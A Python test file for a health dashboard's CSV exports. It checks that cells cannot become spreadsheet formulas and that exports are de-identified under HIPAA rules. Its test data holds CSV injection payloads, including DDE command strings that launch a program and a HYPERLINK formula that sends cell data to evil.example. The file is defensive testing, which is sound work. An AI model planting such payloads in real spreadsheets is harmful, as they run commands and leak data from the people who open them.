"""What leaves the house: no cell is a formula, and an export that names nobody."""

from __future__ import annotations

import csv
import io
import unicodedata
from collections.abc import Iterator
from datetime import date

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dashboard.cohort import Reply, as_csv
from dashboard.exports.bundle import bundle
from dashboard.exports.cells import line, neutral, table
from dashboard.exports.columns import Column, Table
from dashboard.exports.reductions import Limits, Names, age, band, code, flag, kept_prefixes, option, postal, year
from tests.test_layers import files_in, imports_of

FORMULAS = [
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "﹦1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    '"=1+1"',
    "water;=1+1",
    "water\n=1+1",
    "water\t@SUM(A1)",
    '=HYPERLINK("http://evil.example/?x="&A1,"look")',
    "=1+1;=2+2",
    "−1+1",
]
"""What people have hidden in cells."""

NUMBERS = ["-5", "+3.2", "-1,234.5", "1e-5", "-2E10", "0", "12", "−3.2"]


def begins_a_formula(cell: str) -> bool:
    """The judge, in its own words: the first sign that can be seen, as every program folds it."""
    try:
        float(cell.strip().replace(",", "").replace("−", "-"))
        return False
    except ValueError:
        pass
    seen = cell.lstrip("".join(sign for sign in cell if sign.isspace() or unicodedata.category(sign) in ("Cc", "Cf")))
    return cell[:1] in ("\t", "\r", "\n") or unicodedata.normalize("NFKC", seen[:1])[:1] in tuple("=+-@−")


@pytest.mark.parametrize("words", FORMULAS)
@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
def test_no_formula_reaches_a_cell(words: str, separator: str):
    """Whatever the spreadsheet was told to split at."""
    for row in csv.reader(io.StringIO(line(["first", words, 4])), delimiter=separator):
        assert [cell for cell in row if begins_a_formula(cell)] == []


@pytest.mark.parametrize("number", NUMBERS)
def test_a_real_number_stays_a_number(number: str):
    """A loss of five points is -5 in the file too."""
    assert next(csv.reader([line([number])])) == [number]


hostile_text = st.text(
    st.one_of(st.sampled_from("=+-@;,\t\r\n|'\" ＝＋－＠﹦−\u200b\u00a0 1a("), st.characters(codec="utf-8")),
    max_size=12,
)


@given(st.lists(hostile_text, min_size=1, max_size=4), st.sampled_from(",;\t|"))
def test_no_text_at_all_becomes_a_formula(cells: list[str], separator: str):
    """Also none that nobody thought of."""
    for row in csv.reader(io.StringIO(line(cells)), delimiter=separator):
        for cell in row:
            assert not begins_a_formula(cell), (cells, cell)


@given(st.lists(st.text(st.characters(codec="utf-8", exclude_characters="\r"), max_size=12), min_size=1))
def test_words_lose_nothing(cells: list[str]):
    """Taking the guards away gives what was written, cell by cell."""
    read = next(csv.reader(io.StringIO(line(cells), newline="")))
    assert [cell.replace("'", "") for cell in read] == [cell.replace("'", "") for cell in cells]


def test_what_needs_no_guard_has_none():
    """Plain words, codes and numbers are untouched."""
    for words in ("North Harbor", "self_care", "0-10", "12 of 40", "30–44", "", "it's -3 here", "a = b"):
        assert neutral(words) == words


def test_the_lines_before_a_table_are_guarded_too():
    """A site whose name is a formula comes out as words in the selection, the definition and the heads."""
    evil = "=cmd|' /C calc'!A0"
    reply = Reply("q", evil, evil, evil, evil, evil, (evil, "-1+1"), ((evil, 4.0),), None)
    rows = list(csv.reader(io.StringIO(as_csv(reply, evil, date(2026, 3, 1)))))
    assert len(rows) == 8
    assert [cell for row in rows for cell in row if begins_a_formula(cell)] == []


def test_a_table_is_its_lines():
    """One after another, None being an empty cell."""
    assert table([("a", None), (1, "=2")]) == "a,\n1,'=2\n"


def test_there_is_one_writer_of_tables():
    """Nothing else that ships writes them, so nothing can forget the guard."""
    shipped = files_in("dashboard", "pages", "db")
    writers = [file.name for file in shipped if "csv" in imports_of(file) or ".to_csv" in file.read_text("utf-8")]
    assert writers == ["cells.py"]


ANYTHING = st.one_of(st.none(), st.booleans(), st.integers(), st.floats(), st.text(), st.lists(st.text(), max_size=3))
NOBODY = Limits()


@given(st.integers(0, 130))
def test_ages_up_to_eighty_nine_leave_and_above_they_are_one_group(years: int):
    """45 CFR 164.514(b)(2)(i)(C)."""
    assert age(years, NOBODY) == (years if years < 90 else "90+")


@given(st.from_regex(r"[0-9]{5}(-?[0-9]{4})?", fullmatch=True))
def test_a_postal_code_leaves_three_digits_where_many_live_and_noughts_elsewhere(written: str):
    """45 CFR 164.514(b)(2)(i)(B): an allow-list, so that what nobody counted is not kept."""
    assert postal(written, NOBODY) == (written[:3] if written[:3] in kept_prefixes() else "000")


def test_the_prefixes_are_those_the_census_and_the_guidance_let_leave():
    """894 prefixes counted in 2020, less the 18 of at most 20,000 people, less five more of the guidance's list."""
    few = set("036 059 102 202 203 204 205 369 556 692 753 772 821 823 878 879 884 893".split())  # noqa: SIM905
    printed = set("036 059 063 102 203 556 692 790 821 823 830 831 878 879 884 890 893".split())  # noqa: SIM905
    nowhere = ("000", "090", "340", "962")
    assert len(kept_prefixes()) == 894 - len(few | printed)
    assert kept_prefixes().isdisjoint({*few, *printed, *nowhere})
    assert {"972", "100", "850", "006", "999"} <= kept_prefixes()


@pytest.mark.parametrize("written", ["SW1A 1AA", "9721", "972145", "97214 or so", "", None, 97214.0, "９７２１４"])
def test_what_is_no_postal_code_of_the_country_leaves_nothing(written: object):
    """Three signs of anything else would be no area."""
    assert postal(written, NOBODY) is None


@given(ANYTHING)
def test_a_reduction_says_what_it_knows_or_nothing(value: object):
    """Whatever is stored, no words come out of a column of codes, flags, options, years or bands."""
    limits = Limits(frozenset({"sitting"}), 5, 45, 120)
    assert flag(value, limits) in ("yes", "no", None)
    assert option(value, limits) in ("sitting", None)
    assert year(value, limits) is None or isinstance(value, date)
    assert isinstance(band(value, limits), int | type(None)) or band(value, limits) in ("under 45", "120+")
    assert " " not in str(code(value, limits) or "")


def test_a_bundle_holds_no_rows():
    """Ten thousand rows or one: they go by one at a time, and only what is packed stays."""
    columns = (Column("runner", "patient.id", "random", "x", "y"), Column("words", "intake.sex", "code", "x", "y"))
    alive, most = 0, 0

    class Row(dict):  # type: ignore[type-arg]
        def __del__(self) -> None:
            nonlocal alive
            alive -= 1

    def rows() -> Iterator[Row]:
        nonlocal alive, most
        for number in range(10_000):
            alive, most = alive + 1, max(most, alive + 1)
            yield Row({"patient.id": number, "intake.sex": "female"})

    made = bundle([(Table("intakes", "x", columns), rows())], "about")
    assert made.rows == {"intakes": 10_000}
    assert most <= 3
    assert len(made.content) < 400_000


@given(st.integers(1, 2**40))
def test_signs_follow_from_nothing_but_a_forgotten_key(number: int):
    """The same within one export, another in the next, and of one record never of two kinds alike."""
    one, other = Names(), Names()
    assert one.sign("patient.id", number) == one.sign("patient.id", number)
    assert one.sign("patient.id", number) not in (one.sign("episode.id", number), other.sign("patient.id", number))
    assert len(one.sign("patient.id", number)) == 16
